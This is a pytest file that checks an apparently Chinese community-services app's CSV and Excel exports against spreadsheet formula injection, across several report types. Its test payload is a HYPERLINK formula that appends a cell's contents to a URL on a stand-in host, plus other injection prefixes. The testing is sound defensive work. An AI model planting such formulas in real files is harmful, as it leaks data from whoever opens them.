"""Formula injection: every .xlsx and CSV writer stores a formula-like text as inert text.

A resident named ``=HYPERLINK("http://x?"&D2,"详情")`` (stored before the
registry refused such names, or imported) must never become a live formula in
any workbook or CSV Linli writes; real numbers (a negative amount) stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

import i18n
from reports.export import safe_cell, write_csv, write_table, write_xlsx

EVIL = '=HYPERLINK("http://x?"&D2,"详情")'
STARTS = [EVIL, "+1+2", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"]


@pytest.fixture(autouse=True)
def english():
    previous = i18n.current_language()
    i18n.set_language("en")
    yield
    i18n.set_language(previous)


def assert_inert(ws) -> int:  # type: ignore[no-untyped-def]
    """No formula cell anywhere; every formula-like text starts with '. Returns how many evil cells."""
    found = 0
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (cell.coordinate, cell.value)
                if cell.value == "'" + EVIL:
                    found += 1
    return found


def reopened(data_or_path):  # type: ignore[no-untyped-def]
    src = io.BytesIO(data_or_path) if isinstance(data_or_path, bytes) else data_or_path
    return load_workbook(src)


@pytest.mark.parametrize("text", STARTS)
def test_safe_cell_prefixes_text_only(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("张三") == "张三" and safe_cell("") == ""
    assert safe_cell(-12.5) == -12.5 and safe_cell(-3) == -3
    assert safe_cell(None) is None and safe_cell(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1)


def test_generic_xlsx_export_neutralises_text_and_keeps_negative_numbers(tmp_path):
    path = tmp_path / "list.xlsx"
    write_xlsx(path, ["Name", "ID", "Amount", "Note"],
               [[EVIL, "110105195001011234", "-12.50", "-1+2"], ["张三", "110105195001011242", -3, "@x"]],
               numeric=[2])
    ws = reopened(path).active
    assert assert_inert(ws) == 1
    assert ws["A2"].value == "'" + EVIL and ws["A2"].data_type == "s"
    assert ws["C2"].value == -12.5 and ws["C2"].data_type == "n"
    assert ws["C3"].value == -3
    assert ws["D2"].value == "'-1+2" and ws["D3"].value == "'@x"


def test_generic_csv_export_neutralises_text_and_keeps_numbers(tmp_path):
    path = tmp_path / "list.csv"
    write_table(path, ["Name", "Amount", "Note"],
                [[EVIL, "-12.50", "\tx"], ["李四", -3, "+86 138"], ["王五", 4.5, "=1+1"]], numeric=[1])
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1] == ["'" + EVIL, "-12.50", "'\tx"]
    assert rows[2] == ["李四", "-3", "'+86 138"]
    assert rows[3] == ["王五", "4.5", "'=1+1"]
    # a text column's number-like text is text, and neutralised too
    write_csv(path, ["Note"], [["-5"], [-5]])
    assert list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))[1:] == [["'-5"], ["-5"]]


def test_party_roster_xlsx_neutralises_a_formula_name(tmp_path):
    from models.party.roster import ROSTER_COLUMNS, RosterRow
    from reports.party import roster_xlsx

    row = RosterRow(branch="第一党支部", group="", name=EVIL, gender="男", ethnicity="汉族",
                    birth_date=dt.date(1950, 1, 1), education="", joined_on=dt.date(1980, 7, 1), full_on=None,
                    standing="正式党员", member_type="", phone="13800138000", id_number="110105195001011234",
                    native_place="@evil", post="", work_unit="+cmd")
    path = tmp_path / "roster.xlsx"
    roster_xlsx([row], path, ROSTER_COLUMNS)
    ws = reopened(path).active
    assert assert_inert(ws) == 1
    assert any(c.value == "110105195001011234" for c in ws[2])  # the ID number untouched, as text


def test_meals_reconciliation_xlsx_neutralises_a_formula_name():
    from reports.meals import reconciliation_xlsx

    totals = SimpleNamespace(meals=2, price_fen=2400, subsidy_fen=-600, paid_fen=1800)
    diner = SimpleNamespace(name=EVIL, masked_name="=*", meals=2, price_fen=2400, subsidy_fen=-600, paid_fen=1800)
    group = SimpleNamespace(label="+rule", meals=2, price_fen=2400, subsidy_fen=-600, paid_fen=1800)
    rec = SimpleNamespace(totals=totals, diners=[diner], by_rule=[group], by_band_category=[group],
                          by_meal_mode=[group], month_text="2026-11")
    for masked in (False, True):
        wb = reopened(reconciliation_xlsx(rec, masked=masked))
        found = sum(assert_inert(ws) for ws in wb.worksheets)
        assert found == (0 if masked else 1)
        assert wb["Diners"]["E2"].value == -6.0 and wb["Diners"]["E2"].data_type == "n"  # a negative amount stays a number


def test_daycare_monthly_xlsx_neutralises_a_formula_name():
    from models.daycare import ElderMonth, MonthStats
    from reports.daycare import monthly_xlsx

    day = dt.date(2026, 11, 2)
    stats = MonthStats(year=2026, month=11, per_elder=[ElderMonth(1, EVIL, "mild", 1)], per_day={day: 1},
                       grid={1: {day}})
    wb = reopened(monthly_xlsx(stats, "-centre"))
    assert sum(assert_inert(ws) for ws in wb.worksheets) == 1
    assert wb[wb.sheetnames[-1]]["B2"].value == "'-centre"


def test_activities_statistics_xlsx_neutralises_text(tmp_path):
    from models.activities import CategoryFigures, MonthlyStatistics
    from reports.activities import monthly_statistics_xlsx

    stats = MonthlyStatistics(2026, 11, [CategoryFigures(EVIL, 1, 2, 3)], 0)
    ws = reopened(monthly_statistics_xlsx(stats, tmp_path / "s.xlsx")).active
    assert assert_inert(ws) == 1
    assert ws["B2"].value == 1 and ws["B2"].data_type == "n"


def test_the_import_report_is_neutralised_too(tmp_path):
    """The import's own report repeats the file's cells in its reasons."""
    from models.core.importer import ImportReport, RowProblem, report_table

    report = ImportReport(kind="residents", problems=[RowProblem(2, "Name", EVIL)])
    headers, rows = report_table(report)
    path = tmp_path / "r.xlsx"
    write_xlsx(path, headers, rows, numeric=[0])
    assert assert_inert(reopened(path).active) == 1
